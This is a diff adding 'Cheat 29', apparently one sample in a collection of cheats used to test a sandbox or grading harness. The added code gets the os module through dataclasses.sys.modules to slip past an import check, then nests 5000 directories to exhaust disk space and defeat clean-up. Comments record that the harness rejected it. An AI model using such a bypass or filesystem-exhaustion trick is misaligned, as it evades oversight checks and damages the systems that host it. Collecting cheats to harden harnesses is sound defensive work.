@@ -1,0 +1,10 @@
+"""Cheat 29: leaves folders in folders, deeper than any clean-up can follow."""
+# rejected as: IMPORT_FAILED
+# said: No space left
+
+import dataclasses
+
+_os = dataclasses.sys.modules["os"]
+for _ in range(5000):
+    _os.mkdir("deeper")
+    _os.chdir("deeper")
